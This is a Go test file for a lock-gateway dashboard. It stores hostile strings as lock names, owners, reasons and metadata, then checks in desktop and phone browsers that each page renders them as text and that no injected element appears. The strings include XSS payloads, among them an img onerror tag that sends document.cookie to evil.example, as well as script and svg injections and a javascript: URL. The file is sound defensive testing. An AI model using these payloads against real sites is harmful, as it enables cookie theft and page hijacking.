//go:build unix

package dashboard

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/fencegate/fencegate/lockclient/api"
)

// hostileNames do harm, or show something else, if they are treated as anything but text.
var hostileNames = []string{
	`<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
	`<script>document.body.dataset.owned=1</script>`,
	`"><svg onload=document.body.dataset.owned=1>`,
	`'+alert(1)+'{{7*7}}${7*7}`,
	`javascript:alert(1)`,
	`#/locks?state=held&x=%22`,
	"\u202egnp.txt\u2066 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
	"__proto__", "constructor", "e\u0301\u200b\u00a0?#&=%2F%00",
	strings.Repeat("long-", 50),
}

// hostileLock makes a valid name of a lock from a text: its segments may be neither empty nor dots.
func hostileLock(text string) string { return "h/" + strings.ReplaceAll(text, "//", "/") }

// TestHostileNames checks that every page shows hostile names, owners, keys, reasons and metadata as texts.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	g := startGateway(t)
	for _, owner := range hostileNames {
		lock := hostileLock(owner)
		note, err := json.Marshal(map[string]string{"note": owner})
		check(t, err)
		stale := g.hold(t, lock, owner)
		_, err = g.Break(t.Context(), lock, api.BreakRequest{Reason: owner})
		check(t, err)
		_, err = g.Acquire(t.Context(), lock,
			api.AcquireRequest{OwnerID: owner, TTLMS: new(longTTL), Metadata: note})
		check(t, err)
		g.putStale(t, stale, lock)
		g.queue(t, lock, owner+"!")
		_, err = g.CreateSession(t.Context(),
			api.SessionRequest{OwnerID: owner, TTLMS: new(longTTL), Metadata: note})
		check(t, err)
		_, err = g.PutPolicy(t.Context(), lock, api.PolicyRequest{RequireLeaseID: true})
		check(t, err)
	}
	var p *tab
	for _, as := range []device{desktop, phone} {
		p = openTab(t, g, as)
		for _, page := range []struct {
			hash string
			name func(owner string) string // the name that the page shows of each owner's things
		}{
			{"#/", nil}, // it shows only the newest
			{"#/rejections", hostileLock}, {"#/locks?prefix=h", hostileLock}, {"#/policies", hostileLock},
			{"#/sessions", func(owner string) string { return owner }},
		} {
			p.run(as.name+" "+page.hash, func() {
				p.open(page.hash)
				p.waitText("main h1", "")
				p.waitText("#live", "Live")
				for _, owner := range hostileNames {
					if page.name != nil {
						p.waitExactText(page.name(owner))
					}
				}
				p.checkHarmless()
			})
		}
	}
	for _, owner := range hostileNames {
		p.run(owner[:min(12, len(owner))], func() {
			p.open(lockHash(hostileLock(owner)))
			p.waitExactText(hostileLock(owner))
			p.waitExactText(owner)
			p.waitExactText(owner + "!")
			p.click("button.danger")
			p.wait("the dialog is open", `document.querySelector("dialog").open`)
			p.checkHarmless()
			p.open("#/owners/" + url.PathEscape(owner))
			p.waitExactText(hostileLock(owner))
			p.checkHarmless()
		})
	}
}

// waitExactText waits for a visible element with exactly this text, or with both ends of a long one and the whole as its
// title.
func (p *tab) waitExactText(text string) {
	p.t.Helper()
	p.wait("the text "+text+" is visible", `[...document.querySelectorAll("main bdi")].some((node) => {
		const [begin, end] = node.textContent.split("…"), whole = node.parentElement.title;
		return node.checkVisibility() && (node.textContent === %[1]s || end !== undefined && whole === %[1]s &&
			whole.length > 48 && begin.length + end.length > 40 && whole.startsWith(begin) && whole.endsWith(end));
	})`, text)
}

// checkHarmless fails the test if a text became an element.
func (p *tab) checkHarmless() {
	p.t.Helper()
	const harmful = "main img, main script, main iframe, main object, [onerror], [onload], a[href^='javascript:' i]"
	if found := eval[string](p, `[...document.querySelectorAll(%s)].map((node) => node.outerHTML).join() +
		(document.body.dataset.owned ?? "")`, harmful); found != "" {
		p.t.Errorf("a text became an element: %s", found)
	}
	p.checkWidth()
}
